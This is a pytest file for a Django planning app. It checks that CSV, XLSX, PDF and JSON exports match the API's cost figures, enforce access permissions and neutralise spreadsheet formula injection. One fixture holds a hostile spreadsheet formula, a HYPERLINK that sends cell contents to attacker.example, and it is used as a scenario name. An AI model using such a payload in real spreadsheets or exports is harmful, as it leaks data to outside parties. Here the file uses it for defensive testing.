"""Downloads of projects and scenarios as CSV, XLSX, PDF and JSON: figures, safety, permissions."""

import csv
import io
import json
import re
import zipfile
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from openpyxl import load_workbook
from rest_framework.test import APIClient

from apps.exports.pdf_fonts import pdf_fonts
from apps.projects.presets import PRESETS_BY_SLUG
from apps.projects.roles import FRONT_OFFICE
from tests.factories import (
    SEED_000_TRAINING,
    make_project,
    make_scenario,
    seed_000_inference,
)
from tests.pdf import pdf_text

pytestmark = pytest.mark.django_db
FORMATS = ("csv", "xlsx", "pdf", "json")
CENT = Decimal("0.01")
# 30 accelerator-seconds a request, so a request costs more than a cent and the cent shows.
PILOT = {
    "training": SEED_000_TRAINING,
    "inference": seed_000_inference(15_000, accelerator_seconds_per_request=30),
}
# Demand high enough that inference overtakes the training within the horizon.
BUSY = {"training": SEED_000_TRAINING, "inference": seed_000_inference(150_000)}
HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")'


def client_for(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


@pytest.fixture
def colleague():
    return get_user_model().objects.create_user("colleague")


@pytest.fixture
def project(owner, colleague):
    project = make_project(
        owner,
        "Translation assistant",
        unit="@SUM(1)",
        description="+ the pilot\n- then the rollout",
        classification="internal",
    )
    project.collaborators.add(colleague)
    return project


@pytest.fixture
def scenario(project):
    return make_scenario(project, "Pilot", inputs=PILOT, is_baseline=True)


@pytest.fixture
def scenarios(project, scenario):
    return [
        scenario,
        make_scenario(project, "Busy", inputs=BUSY),
        make_scenario(project, HOSTILE_NAME, inputs={"inference": seed_000_inference(15_000)}),
        make_scenario(project, "Chat", inputs=PRESETS_BY_SLUG["chat-service-rented"].inputs),
    ]


def api_estimate(user, scenario) -> dict:
    response = client_for(user).get(f"/api/v1/scenarios/{scenario.pk}/estimate/")
    assert response.status_code == 200
    return response.json()


def download(user, kind: str, obj, export_format: str, via: str) -> bytes:
    """One export through the pages or the API, checked to be an attachment of its type."""
    if via == "page":
        client = APIClient()
        client.force_login(user)
        response = client.get(f"/{kind}s/{obj.pk}/export.{export_format}")
    else:
        response = client_for(user).get(
            f"/api/v1/{kind}s/{obj.pk}/export/", {"format": export_format}
        )
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Disposition"].startswith("attachment; filename=")
    assert response["Content-Disposition"].endswith(f'.{export_format}"')
    assert "no-store" in response["Cache-Control"]
    return response.content


# Reading the files back.


def csv_rows(content: bytes) -> list[dict]:
    assert content.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for Excel"
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def csv_figure(rows: list[dict], scenario_name: str, field: str) -> str:
    (row,) = [r for r in rows if r["scenario"] == scenario_name and r["field"] == field]
    return row["value"]


def xlsx_figures(content: bytes, sheet: str) -> dict:
    """The scenario sheet's figures table as {field: cell}."""
    worksheet = load_workbook(io.BytesIO(content))[sheet]
    return {
        row[4].value: row[2]
        for row in worksheet.iter_rows(min_col=1, max_col=5)
        if isinstance(row[4].value, str) and "." in row[4].value
    }


def pdf_pages(content: bytes) -> int:
    return len(re.findall(rb"/Type /Page\b", content))


# Totals: every export carries the API's figures, to the cent.


@pytest.mark.parametrize("via", ["page", "api"])
def test_csv_totals_equal_the_apis_estimate_to_the_cent(owner, scenario, via):
    api = api_estimate(owner, scenario)
    rows = csv_rows(download(owner, "scenario", scenario, "csv", via))
    figure = lambda field: csv_figure(rows, "Pilot", field)  # noqa: E731
    assert figure("training.cost") == api["training"]["cost"]
    assert figure("inference.total.cost") == api["inference"]["total"]["cost"]
    assert figure("inference.per_request.cost") == api["inference"]["per_request"]["cost"]
    assert Decimal(api["inference"]["per_request"]["cost"]) > 0
    assert float(figure("training.accelerator_hours")) == api["training"]["accelerator_hours"]
    assert (
        float(figure("inference.total.accelerator_hours"))
        == api["inference"]["total"]["accelerator_hours"]
    )
    monthly = [r for r in rows if r["field"] == "inference.monthly.cost"]
    assert [r["value"] for r in monthly] == [m["cost"] for m in api["inference"]["monthly"]]
    assert [int(r["month"]) for r in monthly] == list(range(1, 13))


@pytest.mark.parametrize("via", ["page", "api"])
def test_xlsx_totals_equal_the_apis_estimate_to_the_cent(owner, scenario, via):
    api = api_estimate(owner, scenario)
    figures = xlsx_figures(download(owner, "scenario", scenario, "xlsx", via), "Pilot")

    def money(field: str) -> Decimal:
        cell = figures[field]
        assert cell.number_format == "#,##0.00"
        return Decimal(repr(cell.value)).quantize(CENT)

    assert money("training.cost") == Decimal(api["training"]["cost"])
    assert money("inference.total.cost") == Decimal(api["inference"]["total"]["cost"])
    assert money("inference.per_request.cost") == Decimal(api["inference"]["per_request"]["cost"])
    # openpyxl writes 16 significant digits, a spreadsheet keeps 15: equal to the last digit.
    assert figures["training.accelerator_hours"].value == pytest.approx(
        api["training"]["accelerator_hours"], rel=1e-15
    )
    assert figures["inference.total.accelerator_hours"].value == pytest.approx(
        api["inference"]["total"]["accelerator_hours"], rel=1e-15
    )


@pytest.mark.parametrize("via", ["page", "api"])
def test_pdf_totals_equal_the_apis_estimate_to_the_cent(owner, scenario, via):
    api = api_estimate(owner, scenario)
    content = download(owner, "scenario", scenario, "pdf", via)
    assert content.startswith(b"%PDF-") and content.rstrip().endswith(b"%%EOF")
    text = pdf_text(content)
    exact = set(text.split())  # each figure a whole word
    assert api["training"]["cost"] in exact
    assert api["inference"]["total"]["cost"] in exact
    assert api["inference"]["per_request"]["cost"] in exact
    assert repr(api["training"]["accelerator_hours"]) in exact
    assert repr(api["inference"]["total"]["accelerator_hours"]) in exact
    assert "Training against inference" in text and "Describe this without the diagram" in text
    assert "Build cost" in text and "Run cost" in text and "User speed" in text


@pytest.mark.parametrize("via", ["page", "api"])
def test_json_results_are_the_apis_estimate_exactly(owner, scenario, via):
    api = api_estimate(owner, scenario)
    document = json.loads(download(owner, "scenario", scenario, "json", via))
    (exported,) = document["project"]["scenarios"]
    assert exported["results"] == api
    assert exported["inputs"] == scenario.inputs


def test_a_projects_exports_carry_every_scenarios_totals(owner, project, scenarios):
    estimates = {s.name: api_estimate(owner, s) for s in scenarios}
    rows = csv_rows(download(owner, "project", project, "csv", "page"))
    workbook = download(owner, "project", project, "xlsx", "api")
    summary = load_workbook(io.BytesIO(workbook))["Summary"]
    summary_rows = {
        row[0]: row for row in summary.iter_rows(values_only=True) if row[0] in estimates
    }
    pdf = pdf_text(download(owner, "project", project, "pdf", "page")).split()
    document = json.loads(download(owner, "project", project, "json", "api"))
    results = {s["name"]: s["results"] for s in document["project"]["scenarios"]}
    for name, api in estimates.items():
        inference_cost = api["inference"]["total"]["cost"]
        csv_name = f"'{name}" if name == HOSTILE_NAME else name
        assert csv_figure(rows, csv_name, "inference.total.cost") == inference_cost
        assert Decimal(repr(summary_rows[name][8])).quantize(CENT) == Decimal(inference_cost)
        assert inference_cost in pdf
        assert results[name] == api


def test_the_scenario_page_shows_the_figures_the_exports_carry(client, owner, scenario):
    rows = csv_rows(download(owner, "scenario", scenario, "csv", "page"))
    client.force_login(owner)
    many = client.get(f"/scenarios/{scenario.pk}/").content.decode()
    single = client.get(f"/scenarios/{scenario.pk}/?view=single").content.decode()
    for field, html in (
        ("training.cost", many),
        ("inference.total.cost", many),
        ("inference.per_request.cost", single),
    ):
        assert f'<data value="{csv_figure(rows, "Pilot", field)}">' in html


# Spreadsheets never run what a name or unit says.


def test_no_csv_cell_can_run_as_a_formula(owner, project, scenarios):
    content = download(owner, "project", project, "csv", "page")
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    number = re.compile(r"-?\d+(\.\d+)?(e[+-]\d+)?")
    for cell in cells:
        assert number.fullmatch(cell) or not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert f"'{HOSTILE_NAME}" in cells
    assert "'@SUM(1)" in cells
    assert "'+ the pilot\n- then the rollout" in cells


def test_no_xlsx_cell_is_a_formula_and_hostile_text_stays_text(owner, project, scenarios):
    content = download(owner, "project", project, "xlsx", "page")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert all(b"<f>" not in archive.read(name) for name in sheets)
    workbook = load_workbook(io.BytesIO(content))
    hostile = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    assert cell.data_type == "s" and cell.quotePrefix
                    hostile.append(cell.value)
    assert HOSTILE_NAME in hostile
    assert "@SUM(1)" in [cell.value for cell in workbook["Summary"]["B"]]


def test_xlsx_has_a_summary_and_a_sheet_per_scenario_with_numbers_as_numbers(
    owner, project, scenarios
):
    workbook = load_workbook(io.BytesIO(download(owner, "project", project, "xlsx", "page")))
    assert workbook.sheetnames == [
        "Summary",
        "Pilot",
        '=HYPERLINK("http   attacker.exa',
        "Busy",
        "Chat",
    ]
    summary = workbook["Summary"]
    header = next(row for row in summary.iter_rows(values_only=True) if row[0] == "Scenario")
    assert "Training cost (USD)" in header and "Break-even (months)" in header
    sheet = workbook["Busy"]
    month_header = next(
        row for row in sheet.iter_rows() if row[0].value == "Month" and row[1].value
    )
    assert [c.value for c in month_header[:5]] == [
        "Month",
        "Requests (requests)",
        "Accelerator-hours (accelerator-hours)",
        "Cost (USD)",
        "Energy (kWh)",
    ]
    first_month = sheet[month_header[0].row + 1]
    assert first_month[0].value == 1
    assert all(isinstance(c.value, int | float) for c in first_month[:5])
    assert first_month[3].number_format == "#,##0.00"
    figures = xlsx_figures(download(owner, "project", project, "xlsx", "page"), "Busy")
    for field in ("training.flop", "training.cost", "inference.total.requests"):
        assert isinstance(figures[field].value, int | float), field
    # PostgreSQL's jsonb does not keep the order of the keys: look the inputs up by name. They
    # are in the scenario form's words: its section titles, labels and choices.
    inputs = {
        row[1]: row[2]
        for row in sheet.iter_rows(values_only=True)
        if row[0] == "Training (one-off)"
    }
    assert inputs["Accelerator-hours"] == 200
    assert inputs["How do you know the training compute?"] == "I know the accelerator-hours"
    assert inputs["Accelerator for training"] == "NVIDIA H100 SXM"


# PDF: pages, chart and text for print.


def test_project_pdf_has_a_cover_page_and_starts_each_scenario_on_a_new_page(
    owner, project, scenarios
):
    content = download(owner, "project", project, "pdf", "api")
    assert content.startswith(b"%PDF-")
    assert b"/MediaBox [ 0 0 595.2756 841.8898 ]" in content  # A4
    assert pdf_pages(content) >= 1 + len(scenarios)
    text = pdf_text(content)
    for name in ("Pilot (baseline)", "Busy", "Chat", "Translation assistant", "@SUM(1)"):
        assert name in text
    # The busy scenario breaks even within its horizon, and the chart marks the month.
    assert re.search(r"Break-even after [\d.]+ months", text)
    assert "Months" in text and "Cumulative accelerator-hours" in text


def test_pdf_writes_exponents_and_what_its_fonts_lack_as_a_question_mark(owner, project):
    make_scenario(project, "Zürich Ω 🚀 −1", inputs=PRESETS_BY_SLUG["pre-train-70b"].inputs)
    content = download(owner, "project", project, "pdf", "page")
    text = pdf_text(content)
    # No font has the rocket; without the embedded fonts, Helvetica has neither Ω nor "−".
    assert ("Zürich Ω ? −1" if pdf_fonts().embedded else "Zürich ? ? -1") in text
    assert "×" in text  # "6.3 × 10" with the exponent raised


def test_a_scenario_whose_inputs_no_longer_estimate_still_exports_with_the_reason(
    owner, project, scenario
):
    type(scenario).objects.filter(pk=scenario.pk).update(
        inputs={"training": {**SEED_000_TRAINING, "accelerator": "retired-chip"}}
    )
    for export_format in FORMATS:
        content = download(owner, "scenario", scenario, export_format, "page")
        assert content
    rows = csv_rows(download(owner, "scenario", scenario, "csv", "page"))
    (error,) = [r for r in rows if r["section"] == "Error"]
    assert "training.accelerator: No accelerator 'retired-chip'" in error["value"]
    document = json.loads(download(owner, "scenario", scenario, "json", "api"))
    assert document["project"]["scenarios"][0]["results"] is None
    assert "retired-chip" in document["project"]["scenarios"][0]["error"]


# Who may download what.


@pytest.mark.parametrize("export_format", FORMATS)
def test_a_collaborator_downloads_the_project_and_its_scenarios(
    colleague, project, scenario, export_format
):
    for kind, obj in (("project", project), ("scenario", scenario)):
        for via in ("page", "api"):
            assert download(colleague, kind, obj, export_format, via)


@pytest.mark.parametrize("export_format", FORMATS)
def test_another_manager_gets_404_from_every_export_route(
    client, stranger, project, scenario, export_format
):
    client.force_login(stranger)
    api = client_for(stranger)
    assert client.get(f"/projects/{project.pk}/export.{export_format}").status_code == 404
    assert client.get(f"/scenarios/{scenario.pk}/export.{export_format}").status_code == 404
    for url in (
        f"/api/v1/projects/{project.pk}/export/",
        f"/api/v1/scenarios/{scenario.pk}/export/",
    ):
        response = api.get(url, {"format": export_format})
        assert response.status_code == 404
        assert response["Content-Type"] == "application/json"


def test_a_front_office_user_outside_the_project_gets_404_too(client, project, scenario):
    reviewer = get_user_model().objects.create_user("reviewer")
    reviewer.groups.add(Group.objects.get_or_create(name=FRONT_OFFICE)[0])
    client.force_login(reviewer)
    assert client.get(f"/projects/{project.pk}/export.pdf").status_code == 404
    response = client_for(reviewer).get(f"/api/v1/scenarios/{scenario.pk}/export/")
    assert response.status_code == 404


def test_anonymous_visitors_are_sent_to_sign_in_and_api_callers_get_401(client, project, scenario):
    for url in (f"/projects/{project.pk}/export.csv", f"/scenarios/{scenario.pk}/export.xlsx"):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith("/accounts/login/")
    for url in (
        f"/api/v1/projects/{project.pk}/export/",
        f"/api/v1/scenarios/{scenario.pk}/export/",
    ):
        response = APIClient().get(url, {"format": "pdf"})
        assert response.status_code == 401
        assert response["WWW-Authenticate"] == 'Bearer realm="api"'
        assert response.json()["detail"]


def test_unknown_formats_are_404_with_the_formats_there_are(client, owner, project):
    client.force_login(owner)
    assert client.get(f"/projects/{project.pk}/export.docx").status_code == 404
    response = client_for(owner).get(f"/api/v1/projects/{project.pk}/export/", {"format": "docx"})
    assert response.status_code == 404
    assert "csv, xlsx, pdf, json" in response.json()["detail"]


def test_the_api_chooses_the_format_from_accept_and_defaults_to_json(owner, project):
    url = f"/api/v1/projects/{project.pk}/export/"
    client = client_for(owner)
    response = client.get(url)
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response.json()["format"] == "compute-planner-project"
    response = client.get(url, HTTP_ACCEPT="application/pdf")
    assert response["Content-Type"] == "application/pdf"
    response = client.get(url, HTTP_ACCEPT="text/csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_project_and_scenario_pages_link_to_every_download(client, owner, project, scenario):
    client.force_login(owner)
    project_page = client.get(f"/projects/{project.pk}/").content.decode()
    scenario_page = client.get(f"/scenarios/{scenario.pk}/").content.decode()
    for export_format in FORMATS:
        assert f'href="/projects/{project.pk}/export.{export_format}"' in project_page
        assert f'href="/scenarios/{scenario.pk}/export.{export_format}"' in scenario_page
    assert 'href="/projects/import/"' in client.get("/projects/").content.decode()
